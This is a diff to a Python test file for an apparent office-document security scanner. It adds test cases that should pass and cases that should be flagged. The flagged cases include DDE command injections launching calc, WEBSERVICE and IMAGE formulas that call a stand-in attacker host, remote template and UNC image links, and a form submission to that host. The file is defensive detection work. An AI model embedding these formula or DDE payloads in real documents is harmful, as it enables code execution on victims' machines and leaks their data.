@@ -91,6 +91,8 @@ def within(name: str, content: str | bytes) -> bytes:
         odf("<object href='./Object 1'/><table-cell formula='of:=SUM([.A1:.A2];{1|2})'/>"),
         odf("<event-listener event-name='dom:click' action='next-page'/>"),
         odf("<template href='../sjablonen/brief.ott'/>", "meta"),
+        odf("<template href='file:///C:/sjablonen/brief.ott'/>", "meta"),
+        odf("<table-cell formula='of:=SUM(tabel[[&apos;#een]:[twee]];tabel[&apos;#drie])'/>"),
     ],
 )
 def test_document_passes(data: bytes) -> None:
@@ -128,6 +130,7 @@ def test_document_passes(data: bytes) -> None:
         package(xl__sheet1="<macrosheet><f>1</f></macrosheet>"),
         package(xl__workbook="<definedName name='_xlnm.Auto_Open'>A1</definedName>"),
         odf("<event-listener href='vnd:x'/>"),
+        odf("<image><binary-data>PHN2Zz4=</binary-data></image>"),
         odf("<event-listener action='show' macro-name='Standard.Een'/>"),
         odf("<a href='vnd.sun.star.script:x.py$f?language=Python&amp;location=share'>x</a>"),
         odf("<item id='macro:///Standard.Een'/>", "Configurations2__menubar__menubar"),
@@ -182,6 +185,7 @@ def test_what_runs_is_told(data: bytes) -> None:
             for formula in (
                 f'WEBSERVICE("{EVIL}"&amp;A1)',
                 f'_xlfn.IMAGE ("{EVIL}")',
+                "_xlfn.MAP(A1,_xleta.WEBSERVICE)",
                 "cmd|'/c calc'!A1",
                 "T[a\"]&amp;cmd|'/c calc'!A1&amp;T[a\"]",
                 f"'{EVIL}/[b.xlsx]Blad1'!A1",
@@ -201,7 +205,12 @@ def test_what_runs_is_told(data: bytes) -> None:
                 *(("table-source", EVIL), ("cell-range-source", EVIL), ("sound", EVIL)),
                 *(("list-level-style-image", EVIL), ("auto-reload", EVIL), ("image", EVIL)),
                 *(("image", "//evil/p.png"), ("image", "../p.png"), ("image", "\\\\evil\\p.png")),
-                *(("image", "%2e%2e/p.png"), ("template", EVIL), ("a", "file:///c:/calc.exe")),
+                *(
+                    ("image", "%2e%2e/p.png"),
+                    ("template", EVIL),
+                    ("template", "file://evil/a"),
+                    ("a", "file:///c:/calc.exe"),
+                ),
             )
         ),
         *(
@@ -213,6 +222,10 @@ def test_what_runs_is_told(data: bytes) -> None:
             )
         ),
         odf("<dde-source/>"),
+        odf(f"<submission action='{EVIL}'/>"),
+        package(
+            docProps__app="<Properties><HyperlinkBase>file:///c:/</HyperlinkBase></Properties>"
+        ),
     ],
 )
 def test_what_is_fetched_is_told(data: bytes) -> None:
